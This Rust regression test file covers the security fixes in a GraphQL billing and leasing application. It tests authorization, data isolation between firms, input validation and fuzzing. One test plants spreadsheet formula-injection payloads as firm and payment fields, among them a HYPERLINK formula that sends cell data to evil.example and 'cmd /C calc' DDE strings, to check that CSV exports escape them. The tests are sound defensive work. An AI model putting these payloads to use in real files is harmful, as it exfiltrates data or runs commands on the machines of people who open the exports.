//! Regressions for the attack on the running product (`shared/research/security-review.md`):
//! each test failed on the code the attack found and passes now.

use chrono::Months;
use serde_json::json;

use crate::billing::{
    FUND, INVOICES, ISSUE, PAY, PREVIEW, TARIFF, arrange, first_of_month, run, today,
};
use crate::helpers::{Backend, Options, app, spawn_app};
use crate::on_both_databases;

on_both_databases!(
    a_payment_cannot_allocate_the_same_invoice_twice,
    |backend: Backend| async move {
        let Some(app) = app(backend).await else {
            return;
        };
        let (admin, _) = app.login_as("ops@dongsoc.example").await;
        let month = first_of_month(today()) + Months::new(1);
        let (cluster, _, firm) = arrange(&app, &admin, "CCN Trả hai lần", month).await;
        app.graphql(Some(&admin), ISSUE, run(&cluster, month))
            .await
            .ok();
        let invoice = app
            .graphql(Some(&admin), INVOICES, json!({ "c": cluster }))
            .await
            .ok()
            .data("/invoices/nodes/0")
            .clone();
        let half = invoice["open"].as_i64().unwrap() / 2;
        let twice = json!({ "i": { "firmId": firm, "amount": 2 * half, "method": "CASH",
            "receivedOn": today().to_string(), "idempotencyKey": "twice",
            "allocations": [ { "invoiceId": invoice["id"], "amount": half },
                             { "invoiceId": invoice["id"], "amount": half } ] } });
        let before = app.snapshot().await;
        let refused = app.graphql(Some(&admin), PAY, twice).await;
        assert_eq!(refused.code(), Some("VALIDATION"), "{}", refused.0);
        assert_eq!(
            refused.0["errors"][0]["extensions"]["fields"][0]["path"],
            "input.allocations.1.invoiceId"
        );
        assert_eq!(app.snapshot().await, before, "nothing was written");

        // One allocation of the whole amount counts once on the invoice and once in the fund.
        let once = json!({ "i": { "firmId": firm, "amount": 2 * half, "method": "CASH",
            "receivedOn": today().to_string(), "idempotencyKey": "once",
            "allocations": [ { "invoiceId": invoice["id"], "amount": 2 * half } ] } });
        let paid = app.graphql(Some(&admin), PAY, once).await.ok();
        assert_eq!(paid.data("/recordPayment/unallocated"), 0);
        let after = app
            .graphql(Some(&admin), INVOICES, json!({ "c": cluster }))
            .await
            .ok();
        assert_eq!(after.data("/invoices/nodes/0/paid"), 2 * half);
        let fund = app
            .graphql(Some(&admin), FUND, json!({ "c": cluster }))
            .await
            .ok();
        let fee: i64 = invoice["lines"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|l| l["kind"] == "MAINTENANCE_FEE")
            .map(|l| l["amount"].as_i64().unwrap())
            .sum();
        let balance = fund.data("/maintenanceFund/balance").as_i64().unwrap();
        assert!(
            balance <= fee,
            "the fund got {balance} đ of a {fee} đ fee: counted twice"
        );
    }
);

/// A selection of every field of `type_name` and, recursively, of the objects it holds (fields
/// that need arguments left out), read from the schema so a field added later is searched too.
async fn every_field(
    app: &crate::helpers::TestApp,
    token: &str,
    type_name: &str,
    depth: usize,
) -> String {
    let query = "query($t: String!) { __type(name: $t) { fields { name args { type { kind } } type { kind name ofType { kind name ofType { kind name ofType { kind name } } } } } } }";
    let found = app
        .graphql(Some(token), query, json!({ "t": type_name }))
        .await
        .ok();
    let mut parts = Vec::new();
    for field in found.data("/__type/fields").as_array().unwrap() {
        let required_arg = field["args"]
            .as_array()
            .unwrap()
            .iter()
            .any(|a| a["type"]["kind"] == "NON_NULL");
        if required_arg {
            continue;
        }
        let mut ty = &field["type"];
        while ty["kind"] == "NON_NULL" || ty["kind"] == "LIST" {
            ty = &ty["ofType"];
        }
        let name = field["name"].as_str().unwrap();
        match ty["kind"].as_str().unwrap() {
            "OBJECT" | "INTERFACE" if depth > 0 => {
                let inner = Box::pin(every_field(
                    app,
                    token,
                    ty["name"].as_str().unwrap(),
                    depth - 1,
                ))
                .await;
                parts.push(format!("{name} {{ {inner} }}"));
            }
            "OBJECT" | "INTERFACE" => {}
            _ => parts.push(name.to_owned()),
        }
    }
    parts.join(" ")
}

on_both_databases!(
    a_firm_sees_its_clusters_fund_without_any_other_firms_name_invoice_or_payment,
    |backend: Backend| async move {
        let Some(app) = spawn_app(
            backend,
            Options {
                demo_history: true,
                ..Options::default()
            },
        )
        .await
        else {
            return;
        };
        let (admin, _) = app.login_as("ops@dongsoc.example").await;
        let (kcc, _) = app.login_as("accounting@kcc.example").await;
        let kcc_firm = app
            .graphql(Some(&kcc), "{ me { firm { id } } }", json!({}))
            .await
            .ok()
            .data("/me/firm/id")
            .clone();
        let leases = app
            .graphql(
                Some(&kcc),
                "{ leases(first: 5) { nodes { cluster { id } } } }",
                json!({}),
            )
            .await
            .ok();
        let cluster = leases.data("/leases/nodes/0/cluster/id").clone();
        // What must not show: every other firm's name, invoice number and invoice id, every
        // payment of another firm (id and bank reference), and every movement of the fund
        // (each names an invoice, a buyer, a credit note or a work order).
        let mut secrets: Vec<String> = Vec::new();
        let firms = app
            .graphql(
                Some(&admin),
                "{ firms(first: 100) { nodes { id name } } }",
                json!({}),
            )
            .await
            .ok();
        for f in firms.data("/firms/nodes").as_array().unwrap() {
            if f["id"] != kcc_firm {
                secrets.push(f["name"].as_str().unwrap().to_owned());
            }
        }
        let invoices = app
            .graphql(
                Some(&admin),
                "{ invoices(first: 100) { nodes { id numberLabel firmId } } }",
                json!({}),
            )
            .await
            .ok();
        for i in invoices.data("/invoices/nodes").as_array().unwrap() {
            if i["firmId"] != kcc_firm {
                secrets.push(i["numberLabel"].as_str().unwrap().to_owned());
                secrets.push(i["id"].as_str().unwrap().to_owned());
            }
        }
        let payments = app
            .graphql(
                Some(&admin),
                "{ payments(first: 100) { nodes { id firmId bankReference } } }",
                json!({}),
            )
            .await
            .ok();
        for p in payments.data("/payments/nodes").as_array().unwrap() {
            if p["firmId"] != kcc_firm {
                secrets.push(p["id"].as_str().unwrap().to_owned());
                if let Some(r) = p["bankReference"].as_str() {
                    secrets.push(r.to_owned());
                }
            }
        }
        let all = format!(
            "query($c: ID!) {{ maintenanceFund(clusterId: $c, entries: 500) {{ {} }} }}",
            every_field(&app, &admin, "MaintenanceFund", 3).await
        );
        let operator = app
            .graphql(Some(&admin), &all, json!({ "c": cluster }))
            .await
            .ok();
        let movements = operator
            .data("/maintenanceFund/entries")
            .as_array()
            .unwrap();
        assert!(!movements.is_empty());
        for e in movements {
            secrets.push(e["id"].as_str().unwrap().to_owned());
            secrets.push(e["description"].as_str().unwrap().to_owned());
        }
        for p in operator.data("/maintenanceFund/plans").as_array().unwrap() {
            secrets.push(p["id"].as_str().unwrap().to_owned());
        }
        assert!(
            secrets.len() > 10,
            "the demo has other firms, invoices and payments"
        );

        // Act: the firm asks for every field of its cluster's fund.
        let seen = app
            .graphql(Some(&kcc), &all, json!({ "c": cluster }))
            .await
            .ok();
        let text = seen.0.to_string();
        for secret in &secrets {
            assert!(
                !text.contains(secret.as_str()),
                "the firm's fund view shows {secret}"
            );
        }
        assert_eq!(seen.data("/maintenanceFund/entries"), &json!([]));
        assert_eq!(seen.data("/maintenanceFund/plans"), &json!([]));

        // The totals are the operator's, and add up.
        for field in [
            "/maintenanceFund/balance",
            "/maintenanceFund/months",
            "/maintenanceFund/paidFor",
            "/maintenanceFund/plannedMonths",
            "/maintenanceFund/plannedNext12Months",
        ] {
            assert_eq!(seen.data(field), operator.data(field), "{field}");
        }
        let sum = |pointer: &str, key: &str| -> i64 {
            seen.data(pointer)
                .as_array()
                .unwrap()
                .iter()
                .map(|m| m[key].as_i64().unwrap())
                .sum()
        };
        let paid = sum("/maintenanceFund/paidFor", "cost");
        assert!(paid > 0 && paid <= sum("/maintenanceFund/months", "moneyOut"));
        assert_eq!(
            sum("/maintenanceFund/plannedMonths", "amount"),
            seen.data("/maintenanceFund/plannedNext12Months")
                .as_i64()
                .unwrap()
        );
        assert!(sum("/maintenanceFund/months", "moneyIn") > 0);
        assert!(sum("/maintenanceFund/paidFor", "workOrders") > 0);
    }
);

on_both_databases!(
    a_draft_lease_does_not_open_a_clusters_fund_to_the_firm,
    |backend: Backend| async move {
        let Some(app) = app(backend).await else {
            return;
        };
        let (admin, _) = app.login_as("ops@dongsoc.example").await;
        let (kcc, _) = app.login_as("accounting@kcc.example").await;
        let month = first_of_month(today()) + Months::new(1);
        let (cluster, _, _) = arrange(&app, &admin, "CCN Nháp", month).await;
        let kcc_firm = app
            .graphql(Some(&kcc), "{ me { firm { id } } }", json!({}))
            .await
            .ok()
            .data("/me/firm/id")
            .clone();
        let plot = app
            .graphql(
                Some(&admin),
                "mutation($i: PlotFields!) { createPlot(input: $i) { id } }",
                json!({ "i": { "clusterId": cluster, "code": "N-1", "areaM2": 1000, "landUse": "industrial" } }),
            )
            .await
            .ok()
            .data("/createPlot/id")
            .clone();
        app.graphql(
            Some(&admin),
            "mutation($i: LeaseFields!) { createLease(input: $i) { id status } }",
            json!({ "i": { "firmId": kcc_firm, "plotIds": [plot],
                "startsOn": month.to_string(), "endsOn": (month + Months::new(24)).to_string(),
                "rentPerM2Year": 60000, "rentSchedule": "MONTHLY" } }),
        )
        .await
        .ok();
        let refused = app
            .graphql(
                Some(&kcc),
                "query($c: ID!) { maintenanceFund(clusterId: $c) { balance } }",
                json!({ "c": cluster }),
            )
            .await;
        assert_eq!(refused.code(), Some("NOT_FOUND"), "{}", refused.0);
    }
);

on_both_databases!(
    exported_cells_that_look_like_formulas_are_written_as_text,
    |backend: Backend| async move {
        let Some(app) = app(backend).await else {
            return;
        };
        let (admin, _) = app.login_as("ops@dongsoc.example").await;
        let month = first_of_month(today()) + Months::new(1);
        let (cluster, _, firm) = arrange(&app, &admin, "CCN Công thức", month).await;
        app.graphql(
            Some(&admin),
            "mutation($id: ID!, $i: FirmFields!) { updateFirm(id: $id, input: $i) { id } }",
            json!({ "id": firm, "i": { "name": "=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Xem\")",
                "taxCode": "0101234565", "address": "-2+3+cmd|' /C calc'!A0" } }),
        )
        .await
        .ok();
        app.graphql(Some(&admin), ISSUE, run(&cluster, month))
            .await
            .ok();
        app.graphql(
            Some(&admin),
            PAY,
            json!({ "i": { "firmId": firm, "amount": 1000, "method": "BANK_TRANSFER",
                "receivedOn": today().to_string(), "idempotencyKey": "formula",
                "bankReference": "@SUM(1+1)*cmd|\" /C calc\"!A0" } }),
        )
        .await
        .ok();
        let get = |path: String| {
            let app = &app;
            let admin = admin.clone();
            async move {
                let response = app
                    .client
                    .get(format!("{}{path}", app.address))
                    .bearer_auth(&admin)
                    .send()
                    .await
                    .unwrap();
                assert_eq!(response.status(), 200, "{path}");
                response.text().await.unwrap()
            }
        };
        let firms = get("/export/firms.csv".into()).await;
        assert!(firms.contains("\"'=HYPERLINK("), "{firms}");
        assert!(firms.contains("'-2+3+cmd"), "{firms}");
        assert!(!firms.contains(",=HYPERLINK") && !firms.contains("\"=HYPERLINK"));
        let leases = get("/export/leases.csv".into()).await;
        assert!(leases.contains("\"'=HYPERLINK("), "{leases}");
        let statement = get(format!(
            "/export/statement.csv?firm={}&from={}&to={}",
            firm.as_str().unwrap(),
            today() - chrono::Duration::days(40),
            today() + chrono::Duration::days(400)
        ))
        .await;
        assert!(statement.contains("'@SUM(1+1)"), "{statement}");
        // Amounts stay numbers, negative balances included.
        assert!(!statement.contains("'-"), "{statement}");
    }
);

/// A GraphQL literal of `ty` (an introspection type reference) for the fuzz test: dates and
/// cursors from the corpus, anything else a plain valid-looking value; `None` when the type
/// cannot be built (an input object with a required field of an unknown kind).
fn literal(
    ty: &serde_json::Value,
    types: &std::collections::HashMap<String, serde_json::Value>,
    date: &str,
    depth: usize,
) -> Option<String> {
    match ty["kind"].as_str()? {
        "NON_NULL" => literal(&ty["ofType"], types, date, depth),
        "LIST" => Some(format!("[{}]", literal(&ty["ofType"], types, date, depth)?)),
        "SCALAR" => Some(match ty["name"].as_str()? {
            "NaiveDate" => format!("{date:?}"),
            "Int" => "1".into(),
            "Boolean" => "false".into(),
            "ID" => "\"RmlybTowMDAwMDAwMC0wMDAwLTcwMDAtODAwMC0wMDAwMDAwMDAwMDA\"".into(),
            _ => "\"x\"".into(),
        }),
        "ENUM" => {
            let name = ty["name"].as_str()?;
            types[name]["enumValues"][0]["name"]
                .as_str()
                .map(str::to_owned)
        }
        "INPUT_OBJECT" if depth < 3 => {
            let name = ty["name"].as_str()?;
            let fields: Vec<String> = types[name]["inputFields"]
                .as_array()?
                .iter()
                .filter_map(|f| {
                    Some(format!(
                        "{}: {}",
                        f["name"].as_str()?,
                        literal(&f["type"], types, date, depth + 1)?
                    ))
                })
                .collect();
            Some(format!("{{ {} }}", fields.join(", ")))
        }
        _ => None,
    }
}

/// Every root field of the schema (read by introspection, so new fields are covered) called
/// with out-of-range dates, and every connection with crafted cursors: the answer is always a
/// clean error or data, never a dropped connection (a panic) and never INTERNAL.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_date_or_cursor_makes_any_field_panic_or_fail_internally() {
    use base64::Engine;
    use base64::engine::general_purpose::URL_SAFE_NO_PAD;
    use rand::{Rng, SeedableRng};
    let Some(app) = app(Backend::Sqlite).await else {
        return;
    };
    let (admin, _) = app.login_as("ops@dongsoc.example").await;
    let (kcc, _) = app.login_as("accounting@kcc.example").await;
    let schema = app
        .graphql(
            Some(&admin),
            "{ __schema { types { name kind enumValues { name } inputFields { name type { ...T } } \
               fields { name args { name type { ...T } } type { ...T } } } } } \
             fragment T on __Type { kind name ofType { kind name ofType { kind name ofType { kind name } } } }",
            json!({}),
        )
        .await
        .ok();
    let types: std::collections::HashMap<String, serde_json::Value> = schema
        .data("/__schema/types")
        .as_array()
        .unwrap()
        .iter()
        .map(|t| (t["name"].as_str().unwrap().to_owned(), t.clone()))
        .collect();
    let mut rng = rand::rngs::StdRng::seed_from_u64(20261201);
    let mut dates: Vec<String> = [
        "+262142-12-01",
        "+10000-01-01",
        "9999-12-31",
        "2201-01-01",
        "1899-12-31",
        "0001-01-01",
        "-0001-01-01",
        "2026-02-30",
    ]
    .map(str::to_owned)
    .to_vec();
    dates.extend((0..6).map(|_| format!("{:+06}-01-01", rng.random_range(-262_000..262_000))));
    let mut cursors: Vec<String> = ["9223372036854775807", "18446744073709551615", "-1", "1e30"]
        .iter()
        .map(|c| URL_SAFE_NO_PAD.encode(c))
        .collect();
    cursors.push("not base64 !".into());
    cursors.extend((0..6).map(|_| URL_SAFE_NO_PAD.encode(rng.random::<u64>().to_string())));

    let mut calls = 0;
    for root in ["Query", "Mutation"] {
        let operation = if root == "Query" { "query" } else { "mutation" };
        for field in types[root]["fields"].as_array().unwrap() {
            let name = field["name"].as_str().unwrap();
            if matches!(
                name,
                "login" | "logout" | "refresh" | "requestPasswordReset"
            ) {
                continue;
            }
            let args = field["args"].as_array().unwrap();
            let has_date = serde_json::to_string(args).unwrap().contains("NaiveDate")
                || args.iter().any(|a| {
                    let t = &a["type"];
                    let named = t["name"].as_str().or(t["ofType"]["name"].as_str());
                    named.is_some_and(|n| {
                        serde_json::to_string(&types[n])
                            .unwrap()
                            .contains("NaiveDate")
                    })
                });
            let is_connection = args.iter().any(|a| a["name"] == "after");
            if !has_date && !is_connection {
                continue;
            }
            let values: Vec<(String, Option<String>)> = if is_connection {
                cursors
                    .iter()
                    .map(|c| ("2026-11-30".to_owned(), Some(c.clone())))
                    .collect()
            } else {
                dates.iter().map(|d| (d.clone(), None)).collect()
            };
            for (date, cursor) in values {
                let mut built = Vec::new();
                for arg in args {
                    let arg_name = arg["name"].as_str().unwrap();
                    let value = if arg_name == "after" {
                        cursor.as_ref().map(|c| format!("{c:?}"))
                    } else if arg["type"]["kind"] == "NON_NULL" || has_date {
                        literal(&arg["type"], &types, &date, 0)
                    } else {
                        None
                    };
                    if let Some(value) = value {
                        built.push(format!("{arg_name}: {value}"));
                    }
                }
                let args = if built.is_empty() {
                    String::new()
                } else {
                    format!("({})", built.join(", "))
                };
                let mut returns = &field["type"];
                while returns["kind"] == "NON_NULL" || returns["kind"] == "LIST" {
                    returns = &returns["ofType"];
                }
                let selection = if matches!(returns["kind"].as_str(), Some("SCALAR" | "ENUM")) {
                    ""
                } else {
                    " { __typename }"
                };
                let query = format!("{operation} {{ r: {name}{args}{selection} }}");
                for token in [&admin, &kcc] {
                    let response = app.graphql(Some(token), &query, json!({})).await;
                    let codes: Vec<&str> = response.0["errors"]
                        .as_array()
                        .map(|e| {
                            e.iter()
                                .filter_map(|e| e["extensions"]["code"].as_str())
                                .collect()
                        })
                        .unwrap_or_default();
                    assert!(
                        !codes.contains(&"INTERNAL"),
                        "{query} answered INTERNAL: {}",
                        response.0
                    );
                    calls += 1;
                }
            }
        }
    }
    assert!(
        calls > 100,
        "only {calls} calls: the schema walk found too little"
    );
}

on_both_databases!(
    staff_prepare_billing_but_only_admins_issue_set_tariffs_and_spend_the_fund,
    |backend: Backend| async move {
        let Some(app) = app(backend).await else {
            return;
        };
        let (admin, _) = app.login_as("ops@dongsoc.example").await;
        let (staff, _) = app.login_as("staff@dongsoc.example").await;
        let month = first_of_month(today()) + Months::new(1);
        let (cluster, _, _) = arrange(&app, &admin, "CCN Bốn mắt", month).await;

        // Staff prepare the run.
        app.graphql(Some(&staff), PREVIEW, run(&cluster, month))
            .await
            .ok();
        let before = app.snapshot().await;
        let tariff = json!({ "i": { "clusterId": cluster, "charge": "MAINTENANCE_FEE",
            "effectiveFrom": (month + Months::new(1)).to_string(), "legalBasis": "HĐ",
            "vatBasis": "Luật Thuế GTGT",
            "nameVi": "Phí duy tu", "nameEn": "Maintenance fee", "rate": 9000,
            "unit": "M2_MONTH", "vatBp": 1000 } });
        let expense = "mutation($c: ID!, $d: NaiveDate!) { recordFundExpense(clusterId: $c, \
                       spentOn: $d, amount: 1000000, description: \"Nạo vét cống\", \
                       documentNumber: \"HĐ 1\", documentDate: \"2026-01-02\") { id } }";
        for (what, query, variables) in [
            ("issue", ISSUE, run(&cluster, month)),
            ("tariff", TARIFF, tariff.clone()),
            (
                "expense",
                expense,
                json!({ "c": cluster, "d": today().to_string() }),
            ),
        ] {
            let refused = app.graphql(Some(&staff), query, variables).await;
            assert_eq!(refused.code(), Some("FORBIDDEN"), "{what}: {}", refused.0);
        }
        assert_eq!(app.snapshot().await, before, "staff wrote nothing");

        // The admin does each of them.
        app.graphql(Some(&admin), ISSUE, run(&cluster, month))
            .await
            .ok();
        app.graphql(Some(&admin), TARIFF, tariff).await.ok();
        app.graphql(
            Some(&admin),
            expense,
            json!({ "c": cluster, "d": today().to_string() }),
        )
        .await
        .ok();
    }
);

on_both_databases!(
    control_characters_long_searches_wildcards_and_huge_imports_are_refused_cleanly,
    |backend: Backend| async move {
        let Some(app) = app(backend).await else {
            return;
        };
        let (admin, _) = app.login_as("ops@dongsoc.example").await;
        let create = "mutation($i: FirmFields!) { createFirm(input: $i) { id name } }";
        let firm = |name: &str| {
            json!({ "i": { "name": name, "taxCode": "2501234563", "isSme": true,
                "capitalOrigin": "DOMESTIC", "workforce": 5, "address": "Phú Thọ" } })
        };
        let before = app.snapshot().await;

        // L3: a control character in a variable or a literal never reaches a document.
        let refused = app
            .graphql(Some(&admin), create, firm("Công ty\u{1}TNHH"))
            .await;
        assert_eq!(refused.code(), Some("VALIDATION"), "{}", refused.0);
        let literal = app
            .graphql(
                Some(&admin),
                r#"mutation { createFirm(input: { name: "A\u000bB", taxCode: "2501234563",
                   isSme: true, capitalOrigin: DOMESTIC, workforce: 5 }) { id } }"#,
                json!({}),
            )
            .await;
        assert_eq!(literal.code(), Some("VALIDATION"), "{}", literal.0);
        let header = "name,tax_code,address,capital_origin,is_sme,vsic_code,workforce,billing_emails,status\n";
        let csv =
            format!("{header}Công ty\u{7}Chuông,2500999001,Phú Thọ,DOMESTIC,có,22201,45,,ACTIVE\n");
        let import = "mutation($csv: String!) { importFirms(csv: $csv, commit: true) { created } }";
        let refused = app
            .graphql(Some(&admin), import, json!({ "csv": csv }))
            .await;
        assert_eq!(refused.code(), Some("VALIDATION"), "{}", refused.0);
        assert_eq!(refused.field_paths(), vec!["csv".to_owned()]);

        // L8: a file over 10,000 rows is refused as a whole, with the limit in the message.
        let row = "Công ty,2500999001,Phú Thọ,DOMESTIC,có,22201,45,,ACTIVE\n";
        let huge = format!("{header}{}", row.repeat(10_001));
        let refused = app
            .graphql(Some(&admin), import, json!({ "csv": huge }))
            .await;
        assert_eq!(refused.code(), Some("VALIDATION"), "{}", refused.0);
        assert!(
            refused.0.to_string().contains("10000 rows"),
            "{}",
            refused.0
        );
        assert_eq!(app.snapshot().await, before, "nothing was written");

        // L4: a long search is VALIDATION, not INTERNAL; `%` and `_` match themselves.
        let search = "query($s: String) { firms(search: $s, first: 50) { nodes { name } } }";
        let long = app
            .graphql(Some(&admin), search, json!({ "s": "x".repeat(50_000) }))
            .await;
        assert_eq!(long.code(), Some("VALIDATION"), "{}", long.0);
        app.graphql(Some(&admin), create, firm("Công ty 100% Việt"))
            .await
            .ok();
        for (term, expected) in [("%", 1), ("_", 0), ("100%", 1), ("0_%", 0)] {
            let found = app
                .graphql(Some(&admin), search, json!({ "s": term }))
                .await
                .ok();
            let names = found.data("/firms/nodes").as_array().unwrap().len();
            assert_eq!(names, expected, "{term}: {}", found.0);
        }
        for query in [
            "query($s: String) { plots(search: $s, first: 5) { totalCount } }",
            "query($s: String) { invoices(search: $s, first: 5) { totalCount } }",
        ] {
            let found = app
                .graphql(Some(&admin), query, json!({ "s": "_" }))
                .await
                .ok();
            assert!(
                found.0.to_string().contains("\"totalCount\":0"),
                "{}",
                found.0
            );
        }
    }
);

on_both_databases!(
    numbers_beyond_any_real_estate_or_invoice_are_refused_before_they_reach_a_sum,
    |backend: Backend| async move {
        let Some(app) = app(backend).await else {
            return;
        };
        let (admin, _) = app.login_as("ops@dongsoc.example").await;
        let month = first_of_month(today()) + Months::new(1);
        let (cluster, _, firm) = arrange(&app, &admin, "CCN Vô cực", month).await;
        let before = app.snapshot().await;
        let plot = app
            .graphql(
                Some(&admin),
                "mutation($i: PlotFields!) { createPlot(input: $i) { id } }",
                json!({ "i": { "clusterId": cluster, "code": "Z-1",
                    "areaM2": i64::MAX, "landUse": "Công nghiệp" } }),
            )
            .await;
        assert_eq!(plot.code(), Some("VALIDATION"), "{}", plot.0);
        let csv = format!(
            "cluster,code,area_m2,land_use,cadastral_ref,notes\nCCN Vô cực,Z-2,{},Công nghiệp,,\n",
            i64::MAX
        );
        let import = app
            .graphql(
                Some(&admin),
                "mutation($csv: String!) { importPlots(csv: $csv, commit: true) { created problems { column } } }",
                json!({ "csv": csv }),
            )
            .await
            .ok();
        assert_eq!(import.data("/importPlots/created"), 0, "{}", import.0);
        assert_eq!(import.data("/importPlots/problems/0/column"), "areaM2");
        let payment = app
            .graphql(
                Some(&admin),
                PAY,
                json!({ "i": { "firmId": firm, "amount": 1_i64 << 62, "method": "CASH",
                    "receivedOn": today().to_string(), "idempotencyKey": "huge", "allocations": [] } }),
            )
            .await;
        assert_eq!(payment.code(), Some("VALIDATION"), "{}", payment.0);
        assert_eq!(app.snapshot().await, before, "nothing was written");
        // The province view still answers for everyone.
        let (province, _) = app.login_as("viewer@sct.example").await;
        app.graphql(
            Some(&province),
            "{ provinceOverview { clusters { clusterName } } }",
            json!({}),
        )
        .await
        .ok();
    }
);
